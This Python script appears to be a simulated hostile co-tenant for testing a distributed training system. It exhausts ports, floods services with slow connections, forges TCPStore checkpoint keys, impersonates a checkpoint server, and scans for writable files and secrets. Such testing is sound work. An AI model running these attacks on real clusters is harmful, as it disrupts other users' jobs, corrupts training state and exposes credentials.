"""What another user can do to a run from a host of its network: a program, started inside that host.

`python attacker.py GROUP [MODULE…]` becomes `nobody` in a group, and does what each line of JSON on its
standard input says until that ends; each thing that happens is a line. The modules are loaded while they may
be read.

`{"take": 5000}`            listen at so many ports of the range that runs choose theirs from
`{"crowd": [[host, port]…]}` hold idle and slow connections to each, new ones for those that are let go
`{"store": [host, port]}`   write over all words of saves in the ranks' store
`{"pose": [host, [port…]]}` take the ports once they are free, and answer callers like a server of copies
`{"walk": [folder…]}`       name the files there that it may write, and the secrets that it can read
"""

from __future__ import annotations

import contextlib
import importlib
import itertools
import json
import os
import random
import resource
import socket
import sys
import threading
import time
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path

NOBODY = 65534
_NUM_IDLE, _NUM_SLOW = 40, 10


def main() -> None:
    """Do what is asked for."""
    for module in ("encodings.idna", *sys.argv[2:]):
        importlib.import_module(module)
    # More connections than a shell may have.
    resource.setrlimit(resource.RLIMIT_NOFILE, (20_000, 20_000))
    os.setgroups([])
    os.setgid(int(sys.argv[1]))
    os.setuid(NOBODY)
    for line in sys.stdin:
        wanted = json.loads(line)
        for what, argument in wanted.items():
            threading.Thread(target=ATTACKS[what], args=[argument], daemon=True).start()


def say(*words: object) -> None:
    sys.stdout.write(" ".join(map(str, words)) + "\n")
    sys.stdout.flush()


def take(count: int) -> None:
    """Half of what a run may choose from is gone."""
    held = []
    for port in random.Random(5).sample(range(20000, 32768), count):
        with contextlib.suppress(OSError):
            held.append(socket.create_server(("", port)))
    say("took", len(held))
    while True:
        time.sleep(60)


def crowd(addresses: Sequence[tuple[str, int]]) -> None:
    """Be there in numbers: most say nothing, some a byte now and then."""
    connections: dict[tuple[str, int], list[socket.socket]] = {(host, port): [] for host, port in addresses}
    reached = let_go = 0
    is_told = False
    while True:
        for address, held in connections.items():
            for connection in list(held):
                connection.settimeout(0)
                try:
                    if held.index(connection) < _NUM_SLOW:
                        connection.send(b"x")
                    while connection.recv(4096):
                        pass
                except BlockingIOError:
                    continue
                except OSError:
                    pass
                connection.close()
                held.remove(connection)
                let_go += 1
            with contextlib.suppress(OSError):
                while len(held) < _NUM_IDLE + _NUM_SLOW:
                    held.append(socket.create_connection(address, 2))
                    reached += 1
        if not is_told and let_go > len(addresses) * (_NUM_IDLE + _NUM_SLOW):
            say("let-go", let_go, "of", reached)
            is_told = True
        time.sleep(0.3)


def store(address: tuple[str, int]) -> None:
    """Write what a healthy rank would never write."""
    limit = timedelta(seconds=30)
    ranks = sys.modules["torch"].distributed.TCPStore(
        *address, is_master=False, wait_for_workers=False, timeout=limit
    )
    say("reached-store")
    while True:
        with contextlib.suppress(Exception):
            keys = [key for key in ranks.list_keys() if "attempt-" in key]
            attempt = keys[0].partition("/")[0]
            for key in keys:
                if "/saver/" in key:
                    ranks.set(key, '{"reasons": {}, "bytes": 1}')
            for number in range(40):
                ranks.set(f"{attempt}/saver/1/{number}/turn/answer", "false")
        time.sleep(0.01)


def pose(where: tuple[str, Sequence[int]]) -> None:
    """Answer in the place of a server whose process is gone."""
    host, ports = where
    for port in ports:
        threading.Thread(target=_pose_at, args=[host, port], daemon=True).start()


def _pose_at(host: str, port: int) -> None:
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    while True:
        try:
            listener.bind((host, port))
            break
        except OSError:
            time.sleep(0.001)
    listener.listen(64)
    say("posing", port)
    while True:
        caller, _ = listener.accept()
        say("called", port)
        with contextlib.suppress(OSError), caller:
            caller.settimeout(2)
            caller.sendall(os.urandom(32))
            # Its own nonce back, a code of nothing, and the copies that one would like it to have.
            said = caller.recv(4096)
            caller.sendall(
                said[:32] + b'\x00\x00\x00\x40{"copies": [{"step": 1000000, "rank": 0}]}' + os.urandom(4096)
            )


def walk(folders: Sequence[str]) -> None:
    """Look for what may be written, and for secrets."""
    found = []
    num_seen = 0
    for place, names, files in itertools.chain.from_iterable(map(os.walk, folders)):
        paths = [Path(place, each) for each in (*names, *files)]
        num_seen += len(paths)
        found += [str(path) for path in paths if os.access(path, os.W_OK)]
        for path in paths:
            with contextlib.suppress(OSError):
                if path.name.endswith("secret") and path.read_bytes():
                    found.append(str(path))
    say("walked", num_seen, json.dumps(found))


ATTACKS = {"take": take, "crowd": crowd, "store": store, "pose": pose, "walk": walk}

if __name__ == "__main__":
    main()
